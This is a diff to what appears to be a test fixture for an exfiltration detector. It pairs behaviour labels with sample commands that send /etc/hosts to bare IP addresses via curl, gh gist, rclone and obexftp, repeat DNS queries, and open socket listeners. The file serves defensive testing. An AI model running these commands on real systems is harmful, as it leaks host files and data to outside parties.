@@ -9,13 +9,14 @@ server 'curl -s -F f=@/etc/hosts https://10.9.8.7/'
 #setup stubs /usr/bin/rclone
 rclone copy /srv remote:x
 ## Data put into the names of DNS queries
+#also Code without a file asks for a name of the internet
 #also Encoded words put into DNS names
 #also Names without a meaning asked again and again
 ask_dns A 30 60
 ## Much sent to the internet
 #also Code without a file connects to an address without a name
-#also Code without a file connects to the internet
 #also Code without a file waits for callers
+#also Connections of others led on by a stranger
 python3 -c '
 import socket, threading
 server = socket.create_server(("203.0.113.9", 443))
@@ -40,7 +41,6 @@ gh gist create /etc/hosts
 #setup stubs /usr/bin/obexftp
 obexftp -b 00:11:22:33:44:55 -p /etc/hosts
 ## File sent to a bare address
-#also Transfer tool given a bare address
 curl -s -m 1 --data-binary @/etc/hosts http://203.0.113.9/
 ## Data sent to the internet by a network tool
 #setup python3 -c 'import socket; s = socket.create_server(("", 1337)); c = s.accept()[0]; c.settimeout(3); [0 for _ in iter(lambda: c.recv(65536), b"")]; c.close()' & until ss -ltn | grep -q ':1337 '; do sleep 0.05; done
